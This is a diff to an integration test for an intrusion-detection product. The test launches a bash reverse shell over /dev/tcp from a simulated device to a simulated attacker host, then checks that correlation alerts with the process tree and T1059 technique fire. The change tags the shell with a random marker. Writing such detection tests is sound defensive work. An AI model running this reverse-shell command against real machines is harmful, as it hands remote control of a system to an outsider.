@@ -1,4 +1,5 @@
 // The whole loop, with real processes, kernels, certificates and commands: a device, a site and an attacker, each a host of its own.
+import { randomBytes } from "node:crypto";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import type { Alert } from "../../protocol/alert.ts";
 import { createNetwork, type Network } from "./network.ts";
@@ -35,12 +36,12 @@ afterAll(async () => {
 });
 
 /** A shell on the device that calls the attacker, runs a shell for it, and goes on listening to it. */
-const reverseShell = (to: string) =>
+const reverseShell = (to: string, marker = "") =>
   start(
     network.on("device", [
       "bash",
       "-c",
-      `exec 3<>/dev/tcp/${to}/${PORT}; sh -c 'id -u' >&3; while read -r line <&3; do echo "$line"; done`,
+      `: ${marker}; exec 3<>/dev/tcp/${to}/${PORT}; sh -c 'id -u' >&3; while read -r line <&3; do echo "$line"; done`,
     ]),
   );
 
@@ -50,12 +51,16 @@ const connects = async (to: string) =>
 test.skipIf(!root)(
   "needs root: a reverse shell becomes alerts with its process tree, at the console's door and at the webhook",
   async () => {
-    await using shell = reverseShell(network.address.attacker.v4);
+    // The agent sees the whole machine: the marker tells our shell from anybody else's.
+    const marker = randomBytes(4).toString("hex");
+    await using shell = reverseShell(network.address.attacker.v4, marker);
     await shell.line(/^tick/);
     await attackers[0]!.line(/heard "0/);
 
     const chain = await eventually("the chain's alert", async () =>
-      (await site.alerts()).find((alert) => alert.rule.engine === "correlation" && /reverse/i.test(alert.rule.title)),
+      (await site.alerts()).find(
+        (alert) => alert.rule.engine === "correlation" && /reverse/i.test(alert.rule.title) && JSON.stringify(alert.tree).includes(marker),
+      ),
     );
     expect(chain.device).toBe(DEVICE);
     expect(chain.attack.techniques.some((id) => id.startsWith("T1059"))).toBe(true);
